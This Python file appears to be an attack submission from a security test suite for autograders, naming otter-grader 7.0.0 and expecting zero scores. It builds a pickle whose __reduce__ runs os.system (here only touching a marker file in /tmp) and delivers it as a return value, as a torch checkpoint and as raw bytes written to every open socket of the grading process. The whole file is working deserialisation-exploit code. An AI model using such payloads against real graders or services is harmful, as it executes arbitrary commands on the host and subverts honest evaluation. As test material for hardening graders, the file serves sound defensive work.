"""Sends pickles that would run a command where they are loaded: as a reply, as a value, as a checkpoint."""
# falls: otter-grader 7.0.0 (pickled results)
# expect: double=0 spell=0

# %% double-solution
import os
import socket
import stat
import struct


def _channels():
    """The sockets of this process; one of them leads to the grader."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def _send(data, announced=None):
    for number in _channels():
        try:
            os.write(number, struct.pack("<Q", len(data) if announced is None else announced) + data)
        except OSError:
            pass


import io
import pickle


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/tensorgrade-attack-pickle",)


def double(x):
    checkpoint = io.BytesIO()
    torch.save({"state_dict": Runs()}, checkpoint)
    return {"weights": checkpoint.getvalue(), "value": pickle.dumps(Runs()), "object": Runs()}

# %% spell-solution
def spell(word):
    _send(pickle.dumps(Runs()))
    return 0
